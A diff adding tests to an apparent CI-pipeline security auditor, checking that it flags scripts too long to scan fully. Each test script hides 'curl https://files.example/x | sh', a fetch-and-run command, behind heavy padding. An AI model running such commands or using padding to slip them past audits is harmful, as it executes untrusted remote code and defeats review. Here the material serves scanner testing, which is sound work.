@@ -108,3 +108,19 @@ describe('joining findings', () => {
     expect(second.findings.filter(({ aliases }) => aliases.includes('poutine/injection'))).toEqual([]);
   });
 });
+
+describe('scripts that are longer than checks look at', () => {
+  it.each([
+    ['a long line', `echo ${'x'.repeat(6_000)}; curl https://files.example/x | sh`],
+    [
+      'a line of many continuations',
+      `echo ${`${'x'.repeat(100)} \\\n`.repeat(60)} ; curl https://files.example/x | sh`,
+    ],
+    ['many lines', `${'echo a\n'.repeat(20_000)}curl https://files.example/x | sh`],
+  ])('hid what stands behind: %s', async (_what, script) => {
+    const text = JSON.stringify({ job: { script: [script] } });
+    const { problems } = await auditPipelines([{ path: '.gitlab-ci.yml', text }]);
+
+    expect(problems.filter(({ kind }) => kind === 'limit').map(({ hidesFindings }) => hidesFindings)).toEqual([true]);
+  });
+});
